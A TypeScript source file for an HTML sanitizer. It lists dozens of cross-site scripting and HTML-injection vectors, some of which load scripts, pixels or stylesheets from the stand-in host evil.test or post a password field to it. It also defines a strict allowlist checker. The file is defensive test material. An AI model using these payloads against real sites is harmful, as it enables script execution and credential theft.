/** What has been tried against sites that show HTML of others, and a strict grammar of what may be left of it. */

export const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\\x20type="text/javascript">alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=alert(1)>',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src=//evil.test/pixel>',
  '<img src="http://evil.test/pixel">',
  '<img srcset="javascript:alert(1) 1x">',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1)></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="\\\\evil.test">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="http://evil.test">x</a>',
  '<a href="https://a.test" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<a href="https://a.test" target="_self" rel="opener">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.test"><input name=upw><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css"; p{background:url(//evil.test)}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<p style="color:red;background-image:url(//evil.test)">x</p>',
  '<p style="color:url(//evil.test)">x</p>',
  '<p style="font-size:4000px">x</p>',
  '<p id="__proto__" class="btn btn-main" name=cookie data-x=1>x</p>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '"><script>alert(1)</script>',
  "';alert(1)//",
  '<p/onclick=alert(1)//x>x</p>',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '<div><div '.repeat(200),
  '<b>'.repeat(500),
]

const TAGS =
  'p|br|hr|b|strong|i|em|u|s|small|span|div|blockquote|h[1-4]|ul|ol|li|table|thead|tbody|tfoot|tr|th|td|a|img'
const WEB = /^(?:https:\/\/|mailto:|\/[^/\\])[^\s\\]*$/i
const VALUES: Record<string, RegExp> = {
  style:
    /^(?:(?:color:(?:#[0-9a-f]{3,6}|[a-z]+|rgb\([\d, ]+\))|font-size:\d{1,2}px|text-align:[a-z]+);?)*$/i,
  href: WEB,
  src: /^\/[^/\\][^\s\\]*$/,
  target: /^_blank$/,
  rel: /^noopener noreferrer$/,
  alt: /^[^<>]*$/,
  width: /^\d+$/,
  height: /^\d+$/,
}

/** What is not in the strictest grammar of harmless HTML; null when all of it is. */
export function harmIn(html: string): string | null {
  const text = html.replaceAll(
    new RegExp(`</?(?:${TAGS})((?: [a-z]+="[^"<>]*")*) ?/?>`, 'g'),
    (_, attributes: string) => {
      for (const [, name, value] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
        if (!VALUES[name!]?.test(value!)) return `<harm ${name}=${value}`
      }
      return ''
    },
  )
  return text.includes('<') ? text : null
}
